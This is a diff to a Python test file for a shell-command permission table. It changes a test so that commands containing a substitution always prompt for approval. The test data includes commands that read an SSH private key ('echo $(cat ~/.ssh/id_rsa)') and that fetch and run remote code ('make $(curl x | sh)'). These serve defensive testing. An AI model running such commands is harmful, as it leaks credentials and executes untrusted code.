@@ -142,14 +142,18 @@ def test_allow_grants_see_literal_words_only() -> None:
     assert decide(table, "/usr/bin/make").action == "ask"
 
 
-def test_allow_grants_pass_a_substitution_only_when_they_name_it_whole() -> None:
+def test_allow_grants_never_pass_a_substitution() -> None:
+    """A grant is a plain command: the quoted spelling of a substitution is another command
+    (`make '$(curl x | sh)'` passes a string; `make $(curl x | sh)` runs curl and sh), so a
+    command with a substitution is asked every time (review G round 3, session 12)."""
     table = GrantTable()
     table.add(grant("echo", exact=False))
     assert decide(table, "echo hi").action == "allow"
     d = decide(table, "echo $(cat ~/.ssh/id_rsa)")
     assert d.action == "ask" and d.asking == ("echo '$(cat ~/.ssh/id_rsa)'",)
     table.add(grant(d.asking[0]))  # what a person answering that request with scope run makes
-    assert decide(table, "echo $(cat ~/.ssh/id_rsa)").action == "allow"
+    assert decide(table, "echo '$(cat ~/.ssh/id_rsa)'").action == "allow"  # the literal
+    assert decide(table, "echo $(cat ~/.ssh/id_rsa)").action == "ask"
     assert decide(table, "echo $(cat ~/.ssh/id_rsa) x").action == "ask"
 
 
